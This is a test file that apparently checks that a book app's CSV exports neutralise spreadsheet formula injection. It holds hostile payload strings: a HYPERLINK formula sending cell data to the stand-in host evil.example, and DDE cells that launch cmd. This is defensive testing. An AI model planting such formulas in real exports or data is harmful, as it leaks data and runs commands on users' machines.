import { expect, it } from 'vitest'
import { csvRecords } from '@shelfwise/library-files'
import { describeEachDialect } from '../support/context.ts'
import { bearer, insertImport, insertUser } from '../support/factories.ts'

// Formula injection through the CSV files a reader downloads (issue 19). The Goodreads export carries
// the shared catalogue's titles, authors and publishers, which other readers wrote, and the reader who
// added a book can change them after others shelved it: a cell a spreadsheet would run comes out
// after an apostrophe, so it shows as text. Goodreads's own ISBN cells (="0593135202") stay as they are.

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the cover")'
const DDE = '@SUM(1+1)*cmd|" /C calc"!A0'
const PLUS = '+cmd|" /C calc"!A0'
const MINUS = `-2+3+cmd|' /C calc'!A0`

/** Whether a spreadsheet runs a cell: one starting with a formula character (after spaces), or a tab, CR or LF; a plain number or a quoted ISBN does nothing. */
const runs = (cell: string) =>
  (/^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) || /^[\t\r\n]/.test(cell)) && !/^[+-]?\d+(\.\d+)?$/.test(cell) && !/^="[\dX]*"$/.test(cell)

describeEachDialect('formulas in the CSV files a reader downloads', (ctx) => {
  const call = (method: 'GET' | 'POST' | 'PUT', url: string, token: string, payload?: object) =>
    ctx.app.inject({ method, url, headers: bearer(token), ...(payload ? { payload } : {}) })
  const records = (text: string) => {
    const [header, ...rows] = [...csvRecords(text)].map((r) => r.fields)
    return rows.map((fields) => Object.fromEntries(header!.map((h, i) => [h, fields[i]!])))
  }
  const exportOf = async (token: string) => {
    const res = await call('GET', '/api/me/export/goodreads.csv', token)
    expect(res.statusCode, res.body).toBe(200)
    return records(res.body)
  }

  it('writes another reader’s formula as text in the Goodreads export, also after the book was changed later, and keeps ISBN cells', async () => {
    const adder = await insertUser(ctx.db)
    const reader = await insertUser(ctx.db)
    const book = { title: HYPERLINK, author: DDE, publisher: PLUS, isbn: '0593135202', role: 'none' }
    const added = await call('POST', '/api/books', adder.token, book)
    expect(added.statusCode, added.body).toBe(201)
    const bookId = (added.json() as { _id: string })._id
    expect((await call('PUT', `/api/books/${bookId}/reading`, reader.token, { status: 'want' })).statusCode).toBe(200)
    expect((await call('POST', `/api/reviews/book/${bookId}`, reader.token, { rating: 4, comment: '=1+1 is how I felt' })).statusCode).toBe(201)

    const [row] = await exportOf(reader.token)
    expect(row).toMatchObject({
      Title: `'${HYPERLINK}`,
      Author: `'${DDE}`,
      Publisher: `'${PLUS}`,
      ISBN: '="0593135202"',
      ISBN13: '="9780593135204"',
      'My Review': "'=1+1 is how I felt",
    })
    for (const [column, cell] of Object.entries(row!)) expect(runs(cell), `${column}: ${cell}`).toBe(false)

    // The adder plants a formula in a book the reader shelved long ago (its title and author are
    // settled once others shelved it; its publisher is not).
    const changed = await call('PUT', `/api/books/${bookId}`, adder.token, { ...book, publisher: MINUS })
    expect(changed.statusCode, changed.body).toBe(200)
    const [later] = await exportOf(reader.token)
    expect(later).toMatchObject({ Publisher: `'${MINUS}`, ISBN: '="0593135202"' })
    for (const [column, cell] of Object.entries(later!)) expect(runs(cell), `${column}: ${cell}`).toBe(false)
  })

  it('writes a formula as text in an import’s rows.csv, the file’s own ISBN cells kept', async () => {
    const reader = await insertUser(ctx.db)
    const fields = [HYPERLINK, DDE, '="0593135202"', MINUS]
    const importId = await insertImport(ctx.db, reader.id, {
      header: ['Title', 'Author', 'ISBN', 'Publisher'],
      rows: [{ line: 2, outcome: 'failed', message: 'm', fields }],
    })
    const res = await call('GET', `/api/imports/${importId}/rows.csv`, reader.token)
    expect(res.statusCode, res.body).toBe(200)
    const [row] = records(res.body)
    expect(row).toEqual({ Title: `'${HYPERLINK}`, Author: `'${DDE}`, ISBN: '="0593135202"', Publisher: `'${MINUS}` })
  })
})
